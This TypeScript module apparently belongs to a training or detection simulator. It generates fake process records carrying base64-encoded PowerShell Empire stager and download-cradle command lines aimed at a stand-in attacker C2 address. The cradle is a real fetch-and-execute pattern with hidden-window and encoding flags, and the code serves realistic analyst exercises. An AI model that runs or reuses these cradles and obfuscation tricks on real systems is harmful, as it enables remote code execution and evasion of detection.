/**
 * The adversary's PowerShell launchers. `-enc` takes base64 of UTF-16LE text, so the command
 * lines hold real encodings of these (defanged) stand-ins for a PowerShell Empire stager and a
 * download cradle: an analyst who decodes them reads something that makes sense.
 */
import { ATTACKER, type Machine } from '../cast';
import { processGuid, type RunningProcess } from '../processes';
import type { Rng } from '../rng';

export const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

const STAGER =
  '[System.Net.ServicePointManager]::Expect100Continue=0;$wc=New-Object System.Net.WebClient;' +
  "$u='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko';$wc.Headers.Add('User-Agent',$u);" +
  '$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;$wc.Proxy.Credentials=[System.Net.CredentialCache]::DefaultNetworkCredentials;' +
  `$ser='https://${ATTACKER.c2Ip}:443';$t='/login/process.php';$data=$wc.DownloadData($ser+$t);` +
  '$iv=$data[0..3];$data=$data[4..$data.length];-join[Char[]](& $R $data ($IV+$K))|IEX';

const CRADLE = `IEX (New-Object Net.WebClient).DownloadString('https://${ATTACKER.c2Ip}:443/news.php')`;

function encode(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

/** `powershell.exe -noP -sta -w 1 -enc ...`: the Empire launcher. */
export const EMPIRE_COMMAND_LINE = `powershell.exe -noP -sta -w 1 -enc  ${encode(STAGER)}`;

/** A hidden, encoded download cradle. */
export const CRADLE_COMMAND_LINE = `powershell.exe -NoP -NonI -W Hidden -enc ${encode(CRADLE)}`;

/** An Empire agent's PowerShell, started on `machine` at `time`. */
export function empireAgent(rng: Rng, machine: Machine, time: number): RunningProcess {
  return {
    guid: processGuid(rng, machine, time),
    pid: rng.int(300, 2500) * 4,
    image: POWERSHELL,
    commandLine: EMPIRE_COMMAND_LINE,
  };
}

export function cradleProcess(rng: Rng, machine: Machine, time: number): RunningProcess {
  return {
    guid: processGuid(rng, machine, time),
    pid: rng.int(300, 2500) * 4,
    image: POWERSHELL,
    commandLine: CRADLE_COMMAND_LINE,
  };
}
